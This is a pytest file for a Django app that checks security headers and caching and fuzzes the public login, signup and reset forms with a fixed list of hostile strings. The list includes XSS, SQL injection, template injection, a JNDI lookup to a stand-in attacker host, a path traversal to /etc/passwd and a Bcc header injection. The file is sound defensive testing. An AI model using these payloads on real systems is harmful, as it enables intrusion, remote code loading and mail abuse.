"""Security headers on every page, and the public forms against nasty input."""

from __future__ import annotations

import pytest
from django.test import Client

pytestmark = pytest.mark.django_db


def assert_security_headers(response) -> None:
    csp = response["Content-Security-Policy"]
    assert "default-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] in {"same-origin", "no-referrer"}
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    assert "camera=()" in response["Permissions-Policy"]


def test_the_sign_in_page_sends_the_security_headers_and_no_store(client):
    response = client.get("/auth/login/")
    assert response.status_code == 200
    assert_security_headers(response)
    assert response["Cache-Control"] == "no-store"


def test_signed_in_pages_are_never_stored(alice_client):
    response = alice_client.get("/dashboard/")
    assert response.status_code == 200
    assert_security_headers(response)
    assert response["Cache-Control"] == "no-store"


def test_error_pages_send_the_security_headers_too(client):
    response = client.get("/auth/no-such-page/")
    assert response.status_code == 404
    assert_security_headers(response)


# --- Fuzzing the public forms (a fixed list of nasty strings, no randomness) ------------

NASTY = [
    "",
    " ",
    "\t\r\n",
    "a" * 10_000,
    "x@" + "a" * 300 + ".example.com",
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "' OR '1'='1' --",
    "%00%ff%",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\u202eevil\u202c",
    "\u0000".replace("\u0000", "\u2028\u2029\u0085"),
    "A\u0300" * 200,
    "😀" * 300,
    "\uffff\ufeff",
    "alice@example.com\r\nBcc: eve@example.com",
    "  ALICE@EXAMPLE.COM  ",
    "ālice@exämple.com",
    "-1",
    "1e309",
    "null",
]

# Path, and the fields its form posts. The forms' own names (accounts/forms.py).
PUBLIC_FORMS = {
    "/auth/login/": ["username", "password"],
    "/auth/signup/": ["email", "full_name", "password1", "password2"],
    "/auth/password/reset/": ["email"],
    "/auth/verify/resend/": ["email"],
}


@pytest.mark.parametrize("path", list(PUBLIC_FORMS))
def test_public_forms_never_fail_on_nasty_input(path, alice, settings):
    # Rate limits and lockout would answer 429 before the form sees the input.
    settings.RATELIMIT_ENABLE = False
    settings.AXES_ENABLED = False
    client = Client(raise_request_exception=False)
    form_answered = False
    assert client.get(path).status_code == 200, f"{path} is not a public form"
    fields = PUBLIC_FORMS[path]
    for value in NASTY:
        for target in [*fields, None]:
            # One nasty field among sensible ones, then every field nasty at once.
            data = dict.fromkeys(fields, "alice@example.com")
            if target is None:
                data = dict.fromkeys(fields, value)
            else:
                data[target] = value
            response = client.post(path, data)
            assert response.status_code < 500, (path, target, value[:40])
            body = response.content.decode()
            form_answered |= f'name="{fields[-1]}"' in body and response.status_code in (200, 400)
            assert "<script>alert(1)</script>" not in body
            assert "<img src=x onerror" not in body
    assert form_answered  # the form itself answered (re-rendered with errors), not a limiter
